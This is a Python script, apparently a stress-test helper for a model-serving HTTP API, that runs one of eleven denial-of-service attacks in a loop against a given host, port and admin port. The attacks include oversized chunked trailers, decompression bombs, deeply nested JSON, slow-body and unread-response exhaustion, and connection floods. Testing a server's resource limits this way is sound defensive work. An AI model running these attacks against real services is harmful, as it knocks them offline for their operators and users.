"""
Attacks of one client, as a program: `python attackers.py NAME HOST PORT ADMIN_PORT TOKEN SECONDS`.

A process of its own, so that what it costs is not taken for a stall of the server.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import sys
import threading
import time
from collections.abc import Callable
from typing import NamedTuple

from eas_prediction.tf_request_pb2 import ArrayProto, PredictRequest

MIB = 2**20
PATH = "/api/predict/model"


class Target(NamedTuple):
    address: tuple[str, int]
    admin: tuple[str, int]
    token: str
    seconds: float


def head(path: str, *lines: str) -> bytes:
    return "\r\n".join([f"POST {path} HTTP/1.1", "Host: h", *lines, "", ""]).encode()


def send(target: Target, *pieces: bytes, wait: float = 10.0) -> None:
    """Send bytes on a connection of their own, and read what comes for so many seconds."""
    with contextlib.suppress(OSError), socket.create_connection(target.address, 10) as client:
        client.settimeout(wait)
        for piece in pieces:
            client.sendall(piece)
        while client.recv(2**20):
            pass


def trailer(target: Target) -> None:
    """Send a trailer of 15 MB to a route that needs no token."""
    chunked = head("/healthz", "Transfer-Encoding: chunked")
    send(target, chunked + b"0\r\nX: ", *[b"a" * MIB] * 15)


def trailer_with_token(target: Target) -> None:
    """Send a trailer of 15 MB behind a body that the service takes."""
    chunked = head(PATH, f"Authorization: {target.token}", "Transfer-Encoding: chunked")
    send(target, chunked + b"1\r\na\r\n0\r\nX: ", *[b"a" * MIB] * 15)


def extension(target: Target) -> None:
    """Send a chunk extension of 15 MB."""
    chunked = head(PATH, f"Authorization: {target.token}", "Transfer-Encoding: chunked")
    send(target, chunked + b"1;", *[b"a" * MIB] * 15)


def credit(target: Target) -> None:
    """Send a trailer of 15 MB behind a million chunks of one byte."""
    chunked = head(PATH, f"Authorization: {target.token}", "Transfer-Encoding: chunked")
    chunks = [b"1\r\na\r\n" * 100_000] * 10
    send(target, chunked, *chunks, b"0\r\nX: ", *[b"a" * MIB] * 15)


def pipelined(target: Target) -> None:
    """Ask for `/healthz` again and again without waiting for an answer."""
    with contextlib.suppress(OSError), socket.create_connection(target.address, 10) as client:
        client.settimeout(10)
        threading.Thread(target=_read, args=(client,), daemon=True).start()
        end = time.monotonic() + 1
        while time.monotonic() < end:
            client.sendall(b"GET /healthz HTTP/1.1\r\nHost: h\r\n\r\n" * 5000)


def _read(client: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while client.recv(2**20):
            pass


def _compressed(target: Target, body: bytes, content_type: str) -> None:
    packed = gzip.compress(body)
    lines = [f"Authorization: {target.token}", f"Content-Length: {len(packed)}"]
    lines += ["Content-Encoding: gzip", f"Content-Type: {content_type}", "Accept: application/json"]
    send(target, head(PATH, *lines), packed)


def name(target: Target) -> None:
    """Send an input name of 60 MB, which a refusal would repeat."""
    request = PredictRequest()
    request.inputs["\x01" * (60 * 10**6)].CopyFrom(ArrayProto())
    _compressed(target, request.SerializeToString(), "application/octet-stream")


def json_lists(target: Target) -> None:
    """Send 64 MiB of empty lists."""
    _compressed(target, b'{"inputs": [' + b"[]," * (21 * MIB) + b"[]]}", "application/json")


def json_depth(target: Target) -> None:
    """Send a million nested lists."""
    _compressed(target, b"[" * 10**6, "application/json")


def announced(target: Target) -> None:
    """Announce nine bodies of 64 MiB and send none of them."""
    lines = [f"Authorization: {target.token}", f"Content-Length: {64 * MIB}"]
    with contextlib.ExitStack() as stack:
        for _ in range(9):
            client = stack.enter_context(socket.create_connection(target.address, 10))
            client.sendall(head(PATH, *lines))
        time.sleep(2)


def unread(target: Target) -> None:
    """Ask for five answers of 40 MB and read none of them."""
    request = PredictRequest(signature_name="grow")
    request.inputs["n"].dtype = 3
    request.inputs["n"].array_shape.dim.append(1)
    request.inputs["n"].int_val.append(10**7)
    body = request.SerializeToString()
    lines = [f"Authorization: {target.token}", f"Content-Length: {len(body)}"]
    with contextlib.ExitStack() as stack:
        for _ in range(5):
            client = stack.enter_context(socket.create_connection(target.address, 10))
            client.sendall(head(PATH, *lines) + body)
        time.sleep(3)


def admin(target: Target) -> None:
    """Open 1,100 connections to the admin port and show no token."""
    with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
        for _ in range(1100):
            stack.enter_context(socket.create_connection(target.admin, 10))
        time.sleep(1)


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        trailer,
        trailer_with_token,
        extension,
        credit,
        pipelined,
        name,
        json_lists,
        json_depth,
        announced,
        unread,
        admin,
    )
}


def main() -> None:
    attack, host, port, admin_port, token, seconds = sys.argv[1:]
    target = Target((host, int(port)), (host, int(admin_port)), token, float(seconds))
    end = time.monotonic() + target.seconds
    while time.monotonic() < end:
        # What the server does to an attacker is its own business.
        with contextlib.suppress(OSError):
            ATTACKS[attack](target)


if __name__ == "__main__":
    main()
